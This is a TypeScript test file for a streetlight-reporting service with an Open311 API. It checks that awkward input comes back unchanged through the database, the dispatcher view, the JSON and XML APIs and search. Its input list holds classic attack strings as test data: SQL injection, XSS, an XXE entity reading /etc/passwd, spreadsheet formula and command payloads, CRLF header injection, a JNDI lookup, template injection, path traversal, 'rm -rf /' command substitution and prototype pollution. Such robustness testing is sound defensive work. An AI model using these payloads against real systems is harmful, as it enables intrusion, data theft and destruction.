import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import test, { after, before } from 'node:test';
import { XMLParser } from 'fast-xml-parser';
import { metresBetween } from '../../kernel/place/distance.ts';
import { crew, inWest } from './crew.ts';
import { json, say } from './say.ts';
import { TEN, type Site, openSite } from './site.ts';

let site: Site;
before(async () => {
  site = await openSite({ people: crew });
});
after(() => site.close());

// Words that have broken other systems. Here they are words: stored as they came, and handed back the same by every door.
const words: readonly (readonly [says: string, words: string])[] = [
  ['SQL that drops a table', "路灯不亮'); drop table casefile; --"],
  ['SQL that is always true', `' or '1'='1`],
  ['SQL that sleeps', `1; select pg_sleep(10) --`],
  ['dollar quoting', '$$ $1 $tag$ $0'],
  ['a LIKE pattern', '100% of _ \\% lamps'],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['a picture with a handler', '<img src=x onerror="alert(1)">'],
  ['HTML that was escaped before', '&lt;b&gt; &amp;amp; &#60; &nbsp;'],
  ['the end of a CDATA section', ']]> <![CDATA[ x ]]>'],
  ['an XML declaration and an entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
  ['quotes of every kind', `"'\`“”‘’«»「」`],
  ['a spreadsheet formula', `=HYPERLINK("http://example.com/?x="&A1,"看这里")`],
  ['a formula with a command', `=cmd|' /C calc'!A0`],
  ['a formula with at', '@SUM(1+1)*cmd'],
  ['a formula with plus', '+861380000'],
  ['a formula with minus', '-2+3'],
  ['a header of an answer', '路灯\r\nset-cookie: guanjia=stolen\r\n\r\n<html>'],
  ['a line of a log', '路灯\n{"level":50,"msg":"admin signed in"}'],
  ['a tab-separated row', '路灯\t不亮\t1'],
  ['JNDI', '${jndi:ldap://127.0.0.1/a}'],
  ['a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['a format string', '%s%n%x%d'],
  ['a path that climbs', '../../../../etc/passwd'],
  ['a path of Windows', 'C:\\windows\\system32\\CON'],
  ['a shell command', '`rm -rf /` $(rm -rf /) ; | &'],
  ['escapes that are only text', '\\u0000 \\x00 \\n \\" %00'],
  ['words that are values elsewhere', 'null undefined true NaN [object Object]'],
  ['a prototype', '__proto__.polluted = true'],
  ['Cyrillic that looks Latin', 'Тhe lаmp іs brоken'],
  ['full-width letters and digits', 'ｌａｍｐ １２３'],
  ['zero-width characters', '路\u200b灯\u200c不\u200d亮\u2060了'],
  ['a right-to-left override', '路灯\u202egpj.exe\u202c不亮'],
  ['Arabic and Hebrew', 'المصباح مكسور הפנס שבור 路灯'],
  ['a family of emoji', '👨‍👩‍👧‍👦 👍🏽 🏳️‍🌈'],
  ['rare characters beyond the first plane', '𠮷野家門口 𰻝𰻝面 㐂'],
  ['accents piled up', 'l\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307amp'],
  ['two spellings of one letter', 'caf\u00e9 cafe\u0301'],
  ['separators of lines and paragraphs', '路灯\u2028不亮\u2029了'],
  ['a replacement character', '路灯\ufffd不亮'],
  ['a no-break space and a soft hyphen', '路\u00a0灯\u00ad不亮'],
  ['control characters of the second row', '路\u0085灯\u009f不亮'],
  ['a private-use character', '路灯\ue000不亮'],
  ['a byte order mark inside', '路灯\ufeff不亮'],
  ['four thousand characters', '灯'.repeat(4000)],
  ['four thousand quotes', `'"`.repeat(2000)],
];

const parser = new XMLParser({ parseTagValue: false, trimValues: false, processEntities: true, htmlEntities: true });

for (const [says, text] of words) {
  test(`${says} is stored as it is said and comes back the same by every door`, async () => {
    const short = text.slice(0, 30).trim();
    const body = { text, place: { crs: 'WGS84', point: inWest, address: short }, contact: { name: short } };
    const told = await site.anyone.report(body);
    const row = await site.database.one<{ text: string; address: string; name: string; event: string }>(
      `select c.state ->> 'text' as text, c.state -> 'place' ->> 'address' as address, r.contact_name as name, e.body ->> 'text' as event
       from casefile c join report r on r.case_id = c.id join case_event e on e.case_id = c.id and e.seq = 1 where c.id = $1`,
      [told.id],
    );
    assert.deepEqual(row, { text, address: short, name: short, event: text });
    const desk = await site.as('west-dispatcher');
    const view = await desk.view(told.id);
    assert.deepEqual([view.text, view.address, view.contact?.name], [text, short, short]);
    assert.equal((await site.anyone.follow(told.token)).text, text);
    const asJson = await say(site.port, { path: `/open311/v2/requests/${told.number}.json` });
    assert.equal((JSON.parse(asJson.text) as { description: string }[])[0]?.description, text);
    const asXml = await say(site.port, { path: `/open311/v2/requests/${told.number}.xml` });
    const parsed = parser.parse(asXml.text) as { service_requests: { request: { description: string; address: string } } };
    assert.equal(parsed.service_requests.request.description, text);
    assert.equal(parsed.service_requests.request.address, short);
    const found = await desk.cases(`?limit=200&q=${encodeURIComponent(short)}`);
    assert.ok(
      found.cases.some(({ id }) => id === told.id),
      'the search for these very words does not find it',
    );
    assert.ok(found.cases.every((each) => `${each.text}\n${each.address}\n${each.number}`.toLowerCase().includes(short.toLowerCase())));
  });
}

test('a note, a reason and a task come back in the history as they were said', async () => {
  const desk = await site.as('west-dispatcher');
  const { id } = await site.anyone.report({ text: '路灯不亮', place: { point: inWest } });
  for (const [, text] of words.filter(([, each]) => each.length < 1000)) {
    const view = await desk.say(id, { type: 'note', text });
    assert.equal(view.history.at(-1)?.facts.text, text);
  }
});

const said = (more: object) => {
  const { body, headers } = json({ text: '路灯不亮', place: { crs: 'WGS84', point: inWest }, ...more });
  return { method: 'POST', path: '/api/reports', body, headers: { ...headers, 'idempotency-key': randomUUID() } };
};
const idOf = (text: string) => (JSON.parse(text) as { id: string }).id;

test('a position in a Chinese system is kept as it was said and stored in WGS-84', async () => {
  const gcj = { lon: inWest.lon + 0.005, lat: inWest.lat - 0.003 };
  const { id } = await site.anyone.report({ text: '路灯不亮', place: { crs: 'GCJ02', point: gcj } });
  const { state, original } = await site.database.one<{ state: { place: { point: typeof gcj } }; original: object }>(
    'select c.state, r.original_place as original from casefile c join report r on r.case_id = c.id where c.id = $1',
    [id],
  );
  assert.deepEqual(original, { crs: 'GCJ02', point: gcj, address: '' });
  // Between the two systems lie some six hundred metres here; taken at its word the lamp would stand in another grid.
  const metres = metresBetween(state.place.point, gcj);
  assert.ok(metres > 400 && metres < 800, `${metres} m`);
});

test('a phone’s word about the time is kept, and believed only within three days', async () => {
  const times = [
    ['two minutes ahead of us', TEN + 119_000, TEN],
    ['ten minutes ahead of us', TEN + 600_000, TEN],
    ['an hour ago', TEN - 3_600_000, TEN - 3_600_000],
    ['three days ago to the second', TEN - 72 * 3_600_000, TEN - 72 * 3_600_000],
    ['three days and a second ago', TEN - 72 * 3_600_000 - 1000, TEN],
    ['in 2020', 1_577_836_800_000, TEN],
    ['in 2099', 4_070_908_800_000, TEN],
  ] as const;
  for (const [says, saidAt, counts] of times) {
    const heard = await say(site.port, said({ saidAt }));
    assert.equal(heard.status, 201, says);
    const row = await site.database.one<{ reported_at: number; said_at: number; heard_at: number }>(
      'select c.reported_at, e.said_at, e.heard_at from casefile c join case_event e on e.case_id = c.id where c.id = $1',
      [idOf(heard.text)],
    );
    assert.deepEqual(row, { reported_at: counts, said_at: saidAt, heard_at: TEN }, says);
  }
});
